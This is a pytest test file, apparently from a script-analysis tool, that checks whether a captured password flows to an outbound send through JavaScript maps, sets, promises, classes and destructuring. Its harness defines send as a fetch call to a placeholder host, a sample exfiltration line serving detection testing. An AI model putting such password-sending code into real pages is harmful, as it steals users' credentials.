"""Lists, maps, promises and classes of today's JavaScript, as scripts of a page use them."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import TAKEN, channels


@pytest.mark.parametrize(
    ("code", "is_sent"),
    [
        ("var m = new Map(); m.set('a', p); send(m.get('a'));", True),
        ("var m = new Map(); m.set('a', p); send(m.get('b'));", False),
        ("var m = new Map(); m.set(x, p); send(m.get(y));", True),
        ("var m = new Map([['a', p]]); m.clear(); send(m.get('a'));", False),
        ("var s = new Set(); s.add(p); for (var x of s) send(x);", True),
        ("new Promise(r => r(p)).then(x => send(x));", True),
        ("new Promise(r => { k = r; }).then(x => send(x)); k(p);", True),
        ("new Promise(r => r(1)).then(x => send(x));", False),
        ("(async () => { send(await Promise.resolve(p)); })();", True),
        ("Promise.all([1, p]).then(([a, b]) => send(b));", True),
        ("Promise.all([1, p]).then(([a, b]) => send(a));", False),
        ("class A { get v() { return p; } } send(new A().v);", True),
        ("class A { set v(x) { this.w = x; } } var a = new A(); a.v = p; send(a.w);", True),
        ("class A { set v(x) { } } var a = new A(); a.v = p; send(a.w);", False),
        ("class A extends Array { } var a = new A(); a.push(p); send(a[0]);", True),
        ("send(Object.entries({ a: p })[0][1]);", True),
        ("send(Object.entries({ a: p })[0][0]);", False),
        ("send(Object.assign({}, { a: p, b: 1 }).b);", False),
        ("var { a, ...b } = { a: 1, c: p }; send(b.c);", True),
        ("var { a, ...b } = { a: p, c: 1 }; send(b.c);", False),
        (
            "var o = { [Symbol.iterator]() { return this; }, next() { return { value: p, done: n }; } };"
            "send([...o][0]);",
            True,
        ),
    ],
)
def test_where_a_password_comes_out(code: str, is_sent: bool) -> None:
    sending = "function send(x) { fetch('//a.example', x); } "
    assert bool(channels(TAKEN + sending + code)) is is_sent
